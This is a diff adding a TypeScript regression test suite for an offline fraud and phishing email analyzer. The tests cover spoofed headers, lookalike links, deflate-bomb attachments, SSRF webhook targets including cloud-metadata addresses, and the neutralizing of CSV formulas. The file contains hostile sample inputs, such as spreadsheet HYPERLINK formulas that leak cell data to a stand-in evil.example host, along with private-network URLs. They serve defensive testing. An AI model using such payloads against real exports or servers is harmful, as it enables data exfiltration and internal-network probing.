@@ -0,0 +1,386 @@
+/**
+ * Regression checks for the offline analyzers: header signals, link
+ * forensics, attachment inspection, how a learned classifier may change a
+ * verdict and which bank details count as a changed beneficiary, plus the checks that keep tenant-configured URLs off the server's
+ * own network and message text out of spreadsheet formulas in CSV exports,
+ * and that the document store keeps concurrent writes. Nothing leaves the machine; data goes to a temporary directory.
+ *
+ * Run with `npm run test:analyzer`.
+ */
+import { mkdtempSync, rmSync } from 'fs'
+import { tmpdir } from 'os'
+import path from 'path'
+import { deflateRawSync, deflateSync } from 'zlib'
+import { analyticsCsv } from '../lib/analytics'
+import { AnalysisInputError, analyzeRequest } from '../lib/analyze'
+import { inspectAttachment } from '../lib/attachments'
+import { AutomationInputError, validateAutomationRule } from '../lib/automation'
+import { toCsv } from '../lib/batch'
+import { loadClassifier, trainClassifier } from '../lib/classifier'
+import { detectHeaderSignals, parseRawEmail } from '../lib/email'
+import { analyzeAndRecord, getHistoryRecords, saveFeedback } from '../lib/history'
+import { analyzeLink } from '../lib/links'
+import { assertPublicUrl } from '../lib/network'
+import { checkBeneficiary, extractPaymentEntities } from '../lib/payments'
+import { loadProviderChain } from '../lib/providers'
+import { DEFAULT_WORKSPACE_ID, generateId, JsonCollection } from '../lib/store'
+import { AccountInputError } from '../lib/users'
+import { saveWorkspaceProviders } from '../lib/workspaces'
+
+const PROVIDER_ENV = ['ANTHROPIC_API_KEY', 'OPENAI_API_KEY', 'LOCAL_LLM_BASE_URL', 'PROVIDER_CHAIN']
+
+let failures = 0
+
+function check(name: string, problems: (string | false)[]) {
+  const failed = problems.filter(Boolean)
+  if (failed.length > 0) failures++
+  console.log(`${failed.length > 0 ? 'FAIL' : 'ok  '} ${name}${failed.length > 0 ? `: ${failed.join(', ')}` : ''}`)
+}
+
+function headerSignalIds(from: string, replyTo: string): string[] {
+  const raw = `From: ${from}\nReply-To: ${replyTo}\nSubject: Invoice 2231\n\nPlease find the invoice attached.`
+  return detectHeaderSignals(parseRawEmail(raw)).map(signal => signal.id)
+}
+
+function checkHeaders() {
+  check('[headers] reply-to on another .co.uk domain', [
+    !headerSignalIds('Alice <alice@acme.co.uk>', 'pay@evil.co.uk').includes('reply-to-mismatch') && 'no reply-to-mismatch signal'
+  ])
+  check('[headers] reply-to on a subdomain of the sender', [
+    headerSignalIds('Alice <alice@acme.co.uk>', 'billing@mail.acme.co.uk').includes('reply-to-mismatch') && 'reply-to-mismatch for the sender\'s own domain'
+  ])
+}
+
+const BENIGN_ACCOUNT_LINKS = [
+  'https://docs.github.com/en/account-and-profile',
+  'https://shop.example.com/account/orders',
+  'https://portal.vendor.io/settings/update-billing',
+  'https://app.example.org/auth/confirm?invite=123'
+]
+
+async function checkLinks() {
+  for (const url of BENIGN_ACCOUNT_LINKS) {
+    const finding = analyzeLink({ url, source: 'text' })
+    check(`[links] benign ${url}`, [
+      finding.risk !== 'safe' && `risk ${finding.risk} (${finding.flags.join(', ')})`
+    ])
+
+    const result = await analyzeRequest(DEFAULT_WORKSPACE_ID, {
+      message: `Hi Sam,\n\nThe steps are described here: ${url}\n\nLet me know if anything is unclear.\n\nBest,\nPriya`
+    })
+    check(`[links] message linking ${url}`, [result.riskLevel !== 'Safe' && `rated ${result.riskLevel}`])
+  }
+
+  const disguised = analyzeLink({ url: 'http://paypa1-secure.com/account/verify', source: 'text' })
+  check('[links] credential path on a lookalike domain', [
+    !disguised.flags.includes('credential-path') && 'credential-path not flagged',
+    disguised.risk !== 'dangerous' && `risk ${disguised.risk}`
+  ])
+
+  const mismatched = analyzeLink({ url: 'https://mail-notice.example.net/login', displayText: 'https://www.microsoft.com', source: 'html' })
+  check('[links] credential path behind mismatched link text', [
+    !mismatched.flags.includes('credential-path') && 'credential-path not flagged',
+    mismatched.risk !== 'dangerous' && `risk ${mismatched.risk}`
+  ])
+}
+
+const SPOOFED_INVOICE = [
+  'From: Alice Martin <alice@acme.co.uk>',
+  'Reply-To: accounts@acme-payments.net',
+  'Subject: Invoice 2231',
+  '',
+  'Hi Sam,',
+  '',
+  'Please find the invoice for this month attached. Let me know if you have any questions.',
+  '',
+  'Best,',
+  'Alice'
+].join('\n')
+
+// A model trained only on Safe feedback is as sure as it gets, and still may not lower the verdict.
+async function checkLearnedVerdicts() {
+  const before = await analyzeRequest(DEFAULT_WORKSPACE_ID, { rawEmail: SPOOFED_INVOICE })
+
+  const trainings = new Set<string | undefined>()
+  for (let index = 1; index <= 24; index++) {
+    const result = await analyzeAndRecord(DEFAULT_WORKSPACE_ID, {
+      message: `Hi Sam,\n\nPlease find invoice ${1000 + index} for this month attached. Let me know if you have any questions.\n\nBest,\nAlice`
+    })
+    const saved = await saveFeedback(DEFAULT_WORKSPACE_ID, result.historyId!, { riskLevel: 'Safe', intent: 'inquiry' })
+    trainings.add(saved?.trainsAt)
+  }
+  check('[classifier] feedback in a burst is trained on once', [
+    trainings.size !== 1 && `${trainings.size} trainings scheduled`
+  ])
+
+  await trainClassifier(DEFAULT_WORKSPACE_ID, await getHistoryRecords(DEFAULT_WORKSPACE_ID))
+  const active = !!await loadClassifier(DEFAULT_WORKSPACE_ID)
+
+  const after = await analyzeRequest(DEFAULT_WORKSPACE_ID, { rawEmail: SPOOFED_INVOICE })
+  check('[classifier] Safe-trained model meets a spoofed Reply-To', [
+    before.riskLevel === 'Safe' && 'rules rate it Safe',
+    !active && 'model not in use',
+    after.classifier?.riskLevel !== 'Safe' && `model rates it ${after.classifier?.riskLevel}`,
+    after.riskLevel !== before.riskLevel && `lowered to ${after.riskLevel} from ${before.riskLevel}`
+  ])
+}
+
+interface ZipPart {
+  name: string
+  data: Buffer
+  deflated?: boolean
+}
+
+// Sizes are declared as zero, as a zip bomb is free to do.
+function zipFile(parts: ZipPart[]): Buffer {
+  const locals: Buffer[] = []
+  const central: Buffer[] = []
+  let offset = 0
+
+  for (const { name, data, deflated } of parts) {
+    const nameBytes = Buffer.from(name)
+    const local = Buffer.alloc(30)
+    local.writeUInt32LE(0x04034b50, 0)
+    local.writeUInt16LE(deflated ? 8 : 0, 8)
+    local.writeUInt32LE(data.length, 18)
+    local.writeUInt16LE(nameBytes.length, 26)
+
+    const entry = Buffer.alloc(46)
+    entry.writeUInt32LE(0x02014b50, 0)
+    entry.writeUInt16LE(deflated ? 8 : 0, 10)
+    entry.writeUInt32LE(data.length, 20)
+    entry.writeUInt16LE(nameBytes.length, 28)
+    entry.writeUInt32LE(offset, 42)
+
+    locals.push(local, nameBytes, data)
+    central.push(entry, nameBytes)
+    offset += local.length + nameBytes.length + data.length
+  }
+
+  const directory = Buffer.concat(central)
+  const end = Buffer.alloc(22)
+  end.writeUInt32LE(0x06054b50, 0)
+  end.writeUInt16LE(parts.length, 8)
+  end.writeUInt16LE(parts.length, 10)
+  end.writeUInt32LE(directory.length, 12)
+  end.writeUInt32LE(offset, 16)
+  return Buffer.concat([...locals, directory, end])
+}
+
+function pdfWithStreams(streams: Buffer[]): Buffer {
+  const objects = streams.flatMap((data, index) => [
+    Buffer.from(`${index + 1} 0 obj\n<< /Length ${data.length} /Filter /FlateDecode >>\nstream\n`),
+    data,
+    Buffer.from('\nendstream\nendobj\n')
+  ])
+  return Buffer.concat([Buffer.from('%PDF-1.4\n'), ...objects, Buffer.from('%%EOF\n')])
+}
+
+function rawEmailWith(filenames: string[]): string {
+  const parts = filenames.map(filename => [
+    '--b1',
+    `Content-Type: text/plain; name="${filename}"`,
+    `Content-Disposition: attachment; filename="${filename}"`,
+    'Content-Transfer-Encoding: base64',
+    '',
+    Buffer.from(`Contents of ${filename}`).toString('base64')
+  ].join('\n'))
+  return [
+    'From: Alice <alice@acme.co.uk>',
+    'Subject: Files',
+    'Content-Type: multipart/mixed; boundary="b1"',
+    '',
+    '--b1',
+    'Content-Type: text/plain',
+    '',
+    'The files you asked for.',
+    ...parts,
+    '--b1--'
+  ].join('\n')
+}
+
+async function attachmentRejection(request: Record<string, unknown>): Promise<string | undefined> {
+  try {
+    await analyzeRequest(DEFAULT_WORKSPACE_ID, request)
+    return undefined
+  } catch (error) {
+    if (error instanceof AnalysisInputError) return error.message
+    throw error
+  }
+}
+
+async function checkAttachments() {
+  const padding = ' '.repeat(8 * 1024 * 1024)
+  const slides = Array.from({ length: 20 }, (_, index) => ({
+    name: `ppt/slides/slide${index + 1}.xml`,
+    data: deflateRawSync(Buffer.from(`<p:sld><a:p>Slide ${index + 1}</a:p>${padding}</p:sld>`)),
+    deflated: true
+  }))
+  const { finding, text } = inspectAttachment({
+    filename: 'deck.pptx',
+    content: zipFile([{ name: '[Content_Types].xml', data: Buffer.from('<Types/>') }, ...slides])
+  })
+
+  check('[attachments] many deflate bombs in one document', [
+    finding.kind !== 'office' && `kind ${finding.kind}`,
+    !text.includes('Slide 1\n') && 'first slide not read',
+    text.includes('Slide 20') && 'read past the inflate budget',
+    !finding.flags.includes('decompression-limit') && 'not marked as partly inspected'
+  ])
+
+  const bomb = deflateSync(Buffer.alloc(8 * 1024 * 1024))
+  const started = Date.now()
+  const pdf = inspectAttachment({ filename: 'statement.pdf', content: pdfWithStreams(Array.from({ length: 40 }, () => bomb)) })
+  check('[attachments] many deflate bombs in one PDF', [
+    pdf.finding.kind !== 'pdf' && `kind ${pdf.finding.kind}`,
+    !pdf.finding.flags.includes('decompression-limit') && 'not marked as partly inspected',
+    pdf.finding.risk === 'safe' && 'rated safe',
+    Date.now() - started > 3000 && `took ${Date.now() - started} ms`
+  ])
+
+  const uploads = Array.from({ length: 9 }, (_, index) => ({ filename: `note${index + 1}.txt`, content: Buffer.from('Hello').toString('base64') }))
+  check('[attachments] raw email and uploaded files share the file limit', [
+    !await attachmentRejection({ rawEmail: rawEmailWith(['a.txt', 'b.txt']), attachments: uploads }) && 'eleven files accepted',
+    await attachmentRejection({ rawEmail: rawEmailWith(['a.txt']), attachments: uploads }) !== undefined && 'ten files rejected'
+  ])
+}
+
+const PRIVATE_WEBHOOKS = [
+  'http://localhost:3000/hook',
+  'http://127.0.0.1/hook',
+  'http://169.254.169.254/latest/meta-data/',
+  'http://10.0.0.5/hook',
+  'http://192.168.1.20/hook',
+  'http://[::1]/hook',
+  'http://[::ffff:127.0.0.1]/hook',
+  'http://2130706433/hook',
+  'http://metadata/computeMetadata/v1/',
+  'https://alerts.corp.internal/hook'
+]
+
+function webhookRejection(url: string): string | undefined {
+  try {
+    validateAutomationRule({ name: 'Alert', conditions: { riskLevels: ['High Risk Fraud'] }, actions: [{ type: 'webhook', url }] })
+    return undefined
+  } catch (error) {
+    if (error instanceof AutomationInputError) return error.message
+    throw error
+  }
+}
+
+async function deliveryRejected(url: string): Promise<boolean> {
+  try {
+    await assertPublicUrl(url)
+    return false
+  } catch {
+    return true
+  }
+}
+
+function checkBeneficiaries() {
+  const payee = { id: 'p1', name: 'Acme Supplies', senders: ['acme.example'], accounts: ['12345678'], createdAt: new Date().toISOString() }
+  const sender = { name: 'Acme Billing', address: 'billing@acme.example' }
+  const status = (text: string) => checkBeneficiary([payee], sender, extractPaymentEntities(text)).beneficiary?.status
+  check('[payments] routing number next to the account on file', [
+    status('Please pay to account number 12345678, routing number 021000021.') !== 'known' && 'flagged as changed',
+    status('Please pay to account number 87654321, routing number 021000021.') !== 'changed' && 'new account not flagged'
+  ])
+}
+
+async function checkWebhookTargets() {
+  for (const url of PRIVATE_WEBHOOKS) {
+    check(`[webhooks] rejects ${url}`, [
+      !webhookRejection(url) && 'accepted when saved',
+      !await deliveryRejected(url) && 'accepted when delivering'
+    ])
+  }
+
+  check('[webhooks] accepts a public address', [
+    webhookRejection('https://hooks.example.com/services/T000') !== undefined && 'rejected when saved',
+    await deliveryRejected('https://93.184.216.34/hook') && 'rejected when delivering'
+  ])
+
+  process.env.ALLOWED_PRIVATE_HOSTS = 'alerts.corp.internal, 10.0.0.5'
+  check('[webhooks] accepts hosts the operator allows', [
+    webhookRejection('https://alerts.corp.internal/hook') !== undefined && 'allowed name rejected',
+    await deliveryRejected('http://10.0.0.5/hook') && 'allowed address rejected when delivering',
+    !webhookRejection('http://10.0.0.6/hook') && 'neighbouring address accepted'
+  ])
+  delete process.env.ALLOWED_PRIVATE_HOSTS
+}
+
+async function providerRejection(providers: Record<string, unknown>): Promise<string | undefined> {
+  try {
+    await saveWorkspaceProviders(DEFAULT_WORKSPACE_ID, { providers })
+    return undefined
+  } catch (error) {
+    if (error instanceof AccountInputError) return error.message
+    throw error
+  }
+}
+
+async function checkWorkspaceProviders() {
+  const redirected = { local: { type: 'openai-compatible', model: 'llama3.1', apiKey: 'sk-workspace', baseUrl: 'http://169.254.169.254/latest' } }
+  check('[providers] workspace baseUrl', [
+    !await providerRejection(redirected) && 'accepted when saved',
+    loadProviderChain({ providers: redirected }).length > 0 && 'used from a stored configuration'
+  ])
+  check('[providers] workspace provider on the public endpoint', [
+    await providerRejection({ claude: { type: 'anthropic', model: 'claude-3-5-sonnet-20241022', apiKey: 'sk-ant-workspace' } }) !== undefined && 'rejected when saved'
+  ])
+}
+
+async function checkCsvExports() {
+  const csv = toCsv([['Preview', 'Score'], ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', -1], ['+1 555 0100', 3], ['@SUM(A1:A9)', 0], ['\tcmd', 1]])
+  check('[csv] cells that start like formulas', [
+    !csv.includes('"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")"') && 'formula not neutralized',
+    !csv.includes('\'+1 555 0100') && 'plus sign not neutralized',
+    !csv.includes('\'@SUM') && 'at sign not neutralized',
+    !csv.includes('\'\tcmd') && 'tab not neutralized',
+    !csv.includes(',-1') && 'negative number changed'
+  ])
+
+  const sender = '=HYPERLINK("https://evil.example/?leak="&A1,"Open invoice")'
+  await analyzeAndRecord(DEFAULT_WORKSPACE_ID, { message: 'Hi, the invoice is ready for you.', senderInfo: sender })
+  const analyses = (await analyticsCsv([{ id: DEFAULT_WORKSPACE_ID, name: 'Default' }], {}, 'analyses')).split('\n')
+  const row = analyses.find(line => line.includes('HYPERLINK'))
+  check('[csv] analytics export with a formula as the sender', [
+    !row && 'analysis not exported',
+    !!row && !row.includes(`"'${sender.replace(/"/g, '""')}"`) && 'sender not neutralized'
+  ])
+}
+
+async function checkStore() {
+  const fresh = new JsonCollection<{ id: string }>('concurrent-inserts')
+  await Promise.all(Array.from({ length: 20 }, () => fresh.insert({ id: generateId() })))
+  const stored = (await new JsonCollection<{ id: string }>('concurrent-inserts').all()).length
+  check('[store] concurrent inserts into a collection not loaded yet', [
+    stored !== 20 && `${stored} of 20 records on disk`
+  ])
+}
+
+async function main() {
+  const dataDir = mkdtempSync(path.join(tmpdir(), 'bi-analyzer-'))
+  process.env.DATA_DIR = dataDir
+  process.env.PROVIDERS_FILE = path.join(dataDir, 'providers.json')
+  for (const name of PROVIDER_ENV) delete process.env[name]
+
+  try {
+    await checkStore()
+    checkHeaders()
+    await checkCsvExports()
+    await checkLinks()
+    await checkAttachments()
+    await checkLearnedVerdicts()
+    checkBeneficiaries()
+    await checkWebhookTargets()
+    await checkWorkspaceProviders()
+  } finally {
+    rmSync(dataDir, { recursive: true, force: true })
+  }
+
+  console.log(`\n${failures} failed`)
+  process.exitCode = failures > 0 ? 1 : 0
+}
+
+main()